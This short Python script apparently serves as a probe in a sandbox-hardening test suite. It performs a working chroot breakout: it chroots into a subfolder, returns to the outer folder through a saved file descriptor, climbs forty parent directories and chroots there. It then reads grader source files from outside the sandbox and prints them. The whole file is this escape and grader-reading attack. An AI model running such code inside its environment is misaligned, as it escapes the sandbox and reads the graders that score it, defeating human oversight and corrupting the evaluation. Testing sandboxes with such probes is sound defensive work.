# Climbs out of its folder with chroot and many steps up, then reads the course.
# aim: read
# %% first
import glob
import os

reader, writer = os.pipe()
if os.fork() == 0:
    try:
        os.makedirs("jail", exist_ok=True)
        outer = os.open(".", os.O_RDONLY)
        os.chroot("jail")
        os.fchdir(outer)
        os.chdir("../" * 40)
        os.chroot(".")
        found = "\n".join(open(path).read() for path in glob.glob("@OUTSIDE@/*/graders/*/*.py"))
    except OSError as error:
        found = str(error)
    os.write(writer, found.encode()[:60000])
    os._exit(0)
os.wait()
print(os.read(reader, 60000).decode())
